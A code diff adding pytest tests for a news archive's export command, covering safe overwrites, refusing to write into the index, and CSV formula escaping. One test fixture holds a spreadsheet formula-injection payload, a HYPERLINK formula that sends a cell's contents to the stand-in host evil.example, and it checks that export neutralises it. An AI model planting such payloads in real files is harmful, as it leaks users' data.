@@ -9,7 +9,9 @@ import json
 import os
 import pty
 import subprocess
+import re
 import sys
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -217,6 +219,57 @@ def test_export_filters_only_and_bad_query(index: Path) -> None:
     assert [json.loads(x)["id"] for x in result.stdout.splitlines()] == ["war-1", "korea-1"]
     result = runner.invoke(app, ["export", "في من", "--index", str(index)])
     assert result.exit_code == 1 and result.output.startswith("error: nothing to export")
+
+
+def test_a_failed_or_empty_export_leaves_the_users_file_as_it_was(index: Path, tmp_path: Path) -> None:
+    out = tmp_path / "keep.jsonl"
+    assert runner.invoke(app, ["export", "--index", str(index), "-o", str(out)]).exit_code == 0
+    before = out.read_bytes()
+    out.chmod(0o640)
+    for bad in (["في من"], ["كوريا", "--mode", "semantic"]):  # only stop words; meaning on a lexical-only index
+        result = runner.invoke(app, ["export", *bad, "--index", str(index), "-o", str(out)])
+        assert result.exit_code == 1, result.output
+        assert out.read_bytes() == before
+    nothing = runner.invoke(app, ["export", "--source", "لا مصدر بهذا الاسم", "--index", str(index), "-o", str(out)])
+    assert nothing.exit_code == 0 and f"exported 0 articles: {out} was left as it was" in nothing.stderr
+    assert out.read_bytes() == before
+    fewer = runner.invoke(app, ["export", "--category", "world", "--index", str(index), "-o", str(out)])
+    assert fewer.exit_code == 0 and f"exported 2 articles to {out}" in fewer.stderr
+    assert [json.loads(x)["id"] for x in out.read_text(encoding="utf-8").splitlines()] == ["war-1", "korea-1"]
+    assert out.stat().st_mode & 0o777 == 0o640  # a replaced file keeps its mode
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["keep.jsonl"]  # no partial file left beside it
+
+
+def test_export_refuses_to_write_into_the_index_and_takes_dash_for_stdout(index: Path, tmp_path: Path) -> None:
+    before = {p: p.read_bytes() for p in index.rglob("*") if p.is_file()}
+    for target in (index / "CURRENT", index / "new.jsonl"):
+        result = runner.invoke(app, ["export", "--index", str(index), "-o", str(target)])
+        assert result.exit_code == 2, result.output
+        assert "inside the index" in " ".join(re.sub("[│╭╮╰╯─]", " ", result.output).split())
+    assert {p: p.read_bytes() for p in index.rglob("*") if p.is_file()} == before
+    with Archive(index) as arc:
+        assert len(arc) == 6
+    dash = runner.invoke(app, ["export", "--category", "world", "--index", str(index), "-o", "-"])
+    assert dash.exit_code == 0 and [json.loads(x)["id"] for x in dash.stdout.splitlines()] == ["war-1", "korea-1"]
+
+
+def test_csv_export_shows_formulas_as_text_and_builds_the_same_archive(tmp_path: Path, news: list[Document]) -> None:
+    tricky = [replace(news[0], id="=1+1", title='=HYPERLINK("http://evil.example/?"&A1,"اضغط هنا")'),
+              replace(news[1], source="+cmd", body="@SUM(A1:A9) " + news[1].body),
+              replace(news[2], title="-" + news[2].title)]
+    Archive.build(tricky, tmp_path / "index", encoder="none").close()
+    out = tmp_path / "out.csv"
+    result = runner.invoke(app, ["export", "-f", "csv", "--bom", "--index", str(tmp_path / "index"), "-o", str(out)])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
+    assert [r["id"] for r in rows] == ["'=1+1", news[1].id, news[2].id]
+    assert rows[0]["title"].startswith("'=HYPERLINK(") and rows[1]["source"] == "'+cmd"
+    assert rows[1]["body"].startswith("'@SUM(") and rows[2]["title"] == "'-" + news[2].title
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
+    rebuilt = runner.invoke(app, ["build", str(out), "--index", str(tmp_path / "again"), "--encoder", "none"])
+    assert rebuilt.exit_code == 0, rebuilt.output
+    with Archive(tmp_path / "again") as again:
+        assert [(d.id, d.title, d.source, d.body) for d in again] == [(d.id, d.title, d.source, d.body) for d in tricky]
 
 
 def test_export_streams(index: Path) -> None:
